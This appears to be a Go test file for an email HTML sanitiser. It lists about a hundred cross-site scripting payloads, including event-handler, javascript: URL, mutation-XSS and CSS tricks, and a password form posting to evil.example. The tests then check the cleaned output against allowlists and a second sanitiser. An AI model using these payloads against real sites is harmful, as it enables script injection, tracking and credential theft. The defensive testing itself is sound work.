package clean

import (
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
)

// vectors are attacks, each of which has worked somewhere.
var vectors = map[string]string{
	"script":                   `<script>alert(1)</script>x`,
	"script_case":              `<ScRiPt>alert(1)</sCrIpT>x`,
	"script_unclosed":          `x<script>alert(1)`,
	"script_split":             `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"script_src":               `<script src=//evil.example/x.js></script>`,
	"handler":                  `<img src=x onerror=alert(1)>`,
	"handler_slash":            `<img/src=x/onerror=alert(1)>`,
	"handler_newline":          "<img src=x\nonerror\n=\nalert(1)>",
	"handler_on_div":           `<div onmouseover="alert(1)">x</div>`,
	"handler_backtick":         "<img src=`x` onerror=`alert(1)`>",
	"handler_nul":              "<img src=x one\x00rror=alert(1)>",
	"handler_unclosed":         `<img src=x onerror=alert(1) //`,
	"body_onload":              `<body onload=alert(1)>x`,
	"details_toggle":           `<details open ontoggle=alert(1)><summary>x</summary></details>`,
	"animation_start":          `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>`,
	"javascript_link":          `<a href="javascript:alert(1)">x</a>`,
	"javascript_case":          `<a href="JaVaScRiPt:alert(1)">x</a>`,
	"javascript_tab":           "<a href=\"java\tscript:alert(1)\">x</a>",
	"javascript_newline":       "<a href=\"java&#10;script:alert(1)\">x</a>",
	"javascript_entities":      `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	"javascript_leading":       "<a href=\" \x01javascript:alert(1)\">x</a>",
	"vbscript_link":            `<a href="vbscript:msgbox(1)">x</a>`,
	"data_link":                `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	"data_link_base64":         `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	"blob_link":                `<a href="blob:https://x/1">x</a>`,
	"relative_link":            `<a href="/admin/delete?id=1">x</a>`,
	"scheme_relative_link":     `<a href="//evil.example">x</a>`,
	"svg_image":                `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	"data_html_image":          `<img src="data:text/html,x">`,
	"svg_onload":               `<svg onload=alert(1)>`,
	"svg_script":               `<svg><script>alert(1)</script></svg>`,
	"svg_animate":              `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
	"svg_use":                  `<svg><use href="data:image/svg+xml,x#y"></use></svg>`,
	"svg_style_breakout":       `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	"math_mutation":            `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"math_annotation":          `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	"math_href":                `<math href="javascript:alert(1)">x</math>`,
	"noscript_mutation":        `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"template_mutation":        `<template><img src=x onerror=alert(1)></template>`,
	"textarea_mutation":        `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	"title_mutation":           `<title><a title="</title><img src=x onerror=alert(1)>">`,
	"xmp_mutation":             `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	"noembed_mutation":         `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
	"comment_mutation":         `<!--><img src=x onerror=alert(1)>-->`,
	"comment_bang":             `<!-- --!><img src=x onerror=alert(1)> -->`,
	"cdata":                    `<![CDATA[><img src=x onerror=alert(1)>]]>`,
	"processing_instruction":   `<?xml ?><img src=x onerror=alert(1)>`,
	"form_nesting_mutation":    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	"select_mutation":          `<select><iframe></select><img src=x onerror=alert(1)></iframe>`,
	"plaintext":                `<plaintext><img src=x onerror=alert(1)>`,
	"iframe":                   `<iframe src="javascript:alert(1)"></iframe>`,
	"iframe_srcdoc":            `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"object":                   `<object data="javascript:alert(1)"><param name=x></object>`,
	"embed":                    `<embed src="javascript:alert(1)">`,
	"form":                     `<form action="https://evil.example"><input name=p type=password><button formaction=javascript:alert(1)>go</button></form>`,
	"isindex":                  `<isindex action=javascript:alert(1) type=image>`,
	"base":                     `<base href="https://evil.example/">x`,
	"meta_refresh":             `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	"link_sheet":               `<link rel=stylesheet href=https://evil.example/x.css>`,
	"style_import":             `<style>@import url(https://evil.example/x.css);</style>x`,
	"style_url":                `<p style="background:url(https://evil.example/t.gif)">x</p>`,
	"style_url_escaped":        `<p style="background:u\72l(https://evil.example/t.gif)">x</p>`,
	"style_url_comment":        `<p style="background:ur/**/l(https://evil.example/t.gif)">x</p>`,
	"style_sheet_url":          `<style>p{background:url(//evil.example)}</style><p>x</p>`,
	"style_image_set":          `<p style="background:image-set('https://evil.example/t.gif' 1x)">x</p>`,
	"style_expression":         `<p style="width:expression(alert(1))">x</p>`,
	"style_expression_comment": `<p style="width:exp/**/ression(alert(1))">x</p>`,
	"style_binding":            `<p style="-moz-binding:url(x)">x</p>`,
	"style_behavior":           `<p style="behavior:url(x.htc)">x</p>`,
	"style_fixed":              `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
	"style_absolute":           `<p style="POSITION : absolute">x</p>`,
	"style_break":              `<p style="color:red;}</style><img src=x onerror=alert(1)>">x</p>`,
	"style_quote_break":        `<p style='font-family:"a;position:fixed;b"'>x</p>`,
	"style_attribute_break":    `<p style="font-family:&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>`,
	"style_element_break":      `<style><img src="</style><img src=x onerror=alert(1)//"></style>`,
	"style_content":            `<style>p:after{content:"x"}</style><p>x</p>`,
	"attribute_unclosed":       `<a href="https://example.com" title="x><img src=x onerror=alert(1)>`,
	"attribute_twice":          `<a href="https://example.com" href="javascript:alert(1)">x</a>`,
	"attribute_no_space":       `<a href="https://example.com"onclick="alert(1)">x</a>`,
	"title_quotes":             `<b title='"><img src=x onerror=alert(1)>'>x</b>`,
	"alt_quotes":               `<img src="cid:a" alt='"><img src=x onerror=alert(1)>'>`,
	"srcset":                   `<img srcset="https://evil.example/t.gif 1x">`,
	"background_attribute":     `<table background="https://evil.example/t.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
	"lowsrc_dynsrc":            `<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
	"picture_source":           `<picture><source srcset="https://evil.example/t.gif"><img alt=x></picture>`,
	"video_poster":             `<video poster="https://evil.example/t.gif"><source src=x onerror=alert(1)></video>`,
	"image_alias":              `<image src=x onerror=alert(1)>`,
	"id_clobbering":            `<a id=document name=body href="https://example.com">x</a>`,
	"target_and_opener":        `<a href="https://example.com" target=_top rel=opener>x</a>`,
	"map_area":                 `<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src="cid:a">`,
	"entities_without_end":     `&ltscript&gtalert(1)&lt/script&gt`,
	"ununicode_lt":             "\uff1cscript\uff1ealert(1)",
	"utf7":                     `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"unclosed_table":           `<table><tr><td>x`,
	"foster_parenting":         `<table><a href="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	"deep_formatting":          strings.Repeat("<b><i><a href=x>", 300),
}

func TestVectors(t *testing.T) {
	if len(vectors) < 40 {
		t.Fatalf("%d vectors", len(vectors))
	}
	for name, in := range vectors {
		t.Run(name, func(t *testing.T) {
			out := HTML(in, options).HTML
			if err := harmless(out); err != nil {
				t.Errorf("%v\nin:  %s\nout: %s", err, in, out)
			}
		})
	}
}

var options = Options{CID: func(ref string) (string, bool) {
	return "/files/" + url.PathEscape(ref), ref != ""
}}

// harmless builds the tree that a browser would and asserts that nothing is in it but what is
// listed here, apart from the package's own lists.
func harmless(out string) error {
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		return fmt.Errorf("a browser cannot read it: %w", err)
	}
	for n := range doc.Descendants() {
		if n.Type == html.CommentNode {
			return fmt.Errorf("comment %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || !strings.Contains(harmlessElements, " "+n.Data+" ") {
			return fmt.Errorf("element %s %s", n.Namespace, n.Data)
		}
		for _, a := range n.Attr {
			if err := harmlessAttribute(n.Data, a); err != nil {
				return err
			}
		}
	}
	return nil
}

const (
	harmlessElements = " html head body a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn dir div dl dt em" +
		" figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span strike strong sub summary sup" +
		" table tbody td tfoot th thead time tr tt u ul var wbr "
	harmlessAttributes = " dir lang title align valign color bgcolor size face width height border cellpadding cellspacing colspan rowspan nowrap alt start type value open "
)

var (
	safeHref  = regexp.MustCompile(`^(?i:https?://|mailto:|tel:|sms:)`)
	safeSrc   = regexp.MustCompile(`^(/files/[^/]*$|data:image/(png|jpe?g|gif|webp|bmp);base64,[A-Za-z0-9+/=%]*$)`)
	badStyle  = regexp.MustCompile(`(?i)(url|expression|image|image-set|attr|var|env|element)\s*\(|(^|;)\s*(position|behavior|content|-moz-binding|filter|transform|top|left|right|bottom|z-index|cursor)\s*:|javascript:|[\\<>{}@&]`)
	remoteSrc = regexp.MustCompile(`^(?i)https?:`)
)

func harmlessAttribute(element string, a html.Attribute) error {
	ok := false
	switch a.Key {
	case "href":
		ok = element == "a" && safeHref.MatchString(a.Val)
	case "rel":
		ok = a.Val == "noopener noreferrer nofollow"
	case "target":
		ok = a.Val == "_blank"
	case "src":
		ok = element == "img" && safeSrc.MatchString(a.Val)
	case "data-remote":
		ok = element == "img" && remoteSrc.MatchString(a.Val)
	case "data-cid":
		ok = element == "img" && !strings.ContainsAny(a.Val, "<>")
	case "style":
		ok = !badStyle.MatchString(a.Val)
	default:
		ok = strings.Contains(harmlessAttributes, " "+a.Key+" ")
	}
	if !ok {
		return fmt.Errorf("<%s %s=%q>", element, a.Key, a.Val)
	}
	return nil
}

// TestOracle passes the result through another sanitiser with the same list: nothing is left for it.
func TestOracle(t *testing.T) {
	p := bluemonday.NewPolicy()
	p.AllowElements(strings.Fields(harmlessElements)[3:]...)
	p.AllowAttrs(strings.Fields(harmlessAttributes)...).Globally()
	p.AllowAttrs("style", "rel", "target").Globally()
	p.AllowAttrs("href").OnElements("a")
	p.AllowAttrs("src", "data-remote", "data-cid").OnElements("img")
	p.AllowURLSchemes("http", "https", "mailto", "tel", "sms")
	p.AllowDataURIImages()
	p.AllowRelativeURLs(true)
	p.RequireNoFollowOnLinks(false)
	p.AllowNoAttrs().OnElements(strings.Fields(harmlessElements)[3:]...)
	count := func(s string) (tags int) {
		doc, err := html.Parse(strings.NewReader(s))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			if n.Type == html.ElementNode {
				tags += 1 + len(n.Attr)
			}
		}
		return tags
	}
	for name, in := range vectors {
		out := HTML(in, options).HTML
		if a, b := count(out), count(p.Sanitize(out)); a != b {
			t.Errorf("%s: %d elements and attributes, %d after a second sanitiser\n%s\n%s", name, a, b, out, p.Sanitize(out))
		}
	}
}

func TestHTML(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"keeps_formatting", `<p align="center"><b>x</b> <font color="#ff0000" size="+1">y</font></p>`, `<p align="center"><b>x</b> <font color="#ff0000" size="+1">y</font></p>`},
		{"link", `<a href=" https://example.com/?a=1&amp;b=2 ">x</a>`, `<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`},
		{"relative_link_is_text", `<a href="x.html">x</a>`, `x`},
		{"remote_image", `<img src="https://example.com/a.png" width="100" alt="A">`, `<img data-remote="https://example.com/a.png" width="100" alt="A">`},
		{"cid_image", `<img src="cid:a%40b">`, `<img src="/files/a@b">`},
		{"cid_upper_case", `<img src="CID:<a@b>">`, `<img src="/files/a@b">`},
		{"data_image", `<img src="data:image/png;base64,AAAA">`, `<img src="data:image/png;base64,AAAA">`},
		{"style", `<p style="COLOR: red; position:fixed; font-family: &quot;A B&quot;, serif; color : blue">x</p>`, `<p style="font-family:'A B', serif;color:blue">x</p>`},
		{"sheet", `<style>p.a, td { color: red !important } .a b { font-weight: normal } @media (x) { p { color: blue } }</style><p class=a>x <b>y</b></p>`,
			`<p style="color:red">x <b style="font-weight:normal">y</b></p>`},
		{"sheet_specificity", `<style>#i{color:red}p.c{color:blue}p{color:green;margin:0}</style><p id=i class=c style="padding:1px">x</p>`, `<p style="margin:0;color:red;padding:1px">x</p>`},
		{"sheet_child", `<style>div > b {color:red}</style><div><b>x</b><i><b>y</b></i></div>`, `<div><b style="color:red">x</b><i><b>y</b></i></div>`},
		{"body_style", `<body bgcolor="#eeeeee" style="margin:0"><p>x</p></body>`, `<div style="background-color:#eeeeee;margin:0"><p>x</p></div>`},
		{"unclosed_table", `<table><tr><td>x<td>y<tr><td>z`, `<table><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></table>`},
		{"form_is_its_content", `<form action=x><p>a</p><input><button>b</button></form>`, `<p>a</p>b`},
		{"orphan_end_tag", `</a>x</div></table>`, `x`},
		{"misnested", `<b>a<i>b</b>c</i>`, `<b>a<i>b</i></b>c`},
		{"inline_around_block", `<b>a<p>b</b>c</p>d`, `<b>a<p>bc</p></b>d`},
		{"svg_ends_at_block", `<svg><path d=x><div>x</div>`, `<div>x</div>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := options
			o.CID = func(ref string) (string, bool) { return "/files/" + ref, true }
			if got := HTML(c.in, o).HTML; got != c.want {
				t.Errorf("got:\n%s\nwant:\n%s", got, c.want)
			}
		})
	}
}

func TestImages(t *testing.T) {
	in := `<img src="https://e.example/a.png"><img src="//e.example/b.png"><img src="https://e.example/t.gif" width=1 height=1>` +
		`<img src="https://e.example/u.gif" style="display:none !important"><img src="cid:gone" alt="logo">`
	r := HTML(in, Options{CID: func(string) (string, bool) { return "", false }})
	if r.Remote != 2 || r.Trackers != 2 {
		t.Errorf("%d remote images and %d trackers, want 2 and 2", r.Remote, r.Trackers)
	}
	if strings.Contains(r.HTML, " src=") || !strings.HasSuffix(r.HTML, ">logo") {
		t.Error(r.HTML)
	}
	if r = HTML(in, Options{}); !strings.HasSuffix(r.HTML, `<img data-cid="gone" alt="logo">`) {
		t.Error(r.HTML)
	}
	r = HTML(in, Options{Remote: func(u string) (string, bool) { return "/proxy?u=" + url.QueryEscape(u), true }})
	if r.Remote != 0 || strings.Count(r.HTML, `src="/proxy?u=https`) != 2 {
		t.Errorf("asked for: %d still blocked: %s", r.Remote, r.HTML)
	}
}

// again asserts that cleaning twice is cleaning once.
func again(t *testing.T, in string) {
	t.Helper()
	o := Options{}
	once := HTML(in, o).HTML
	if err := harmless(once); err != nil {
		t.Fatalf("%v\nin:  %q\nout: %q", err, in, once)
	}
	if twice := HTML(once, o).HTML; twice != once {
		t.Errorf("in:    %q\nonce:  %q\ntwice: %q", in, once, twice)
	}
}

func TestIdempotent(t *testing.T) {
	for name, in := range vectors {
		t.Run(name, func(t *testing.T) { again(t, in) })
	}
}

func FuzzHTML(f *testing.F) {
	for _, in := range vectors {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) { again(t, in) })
}
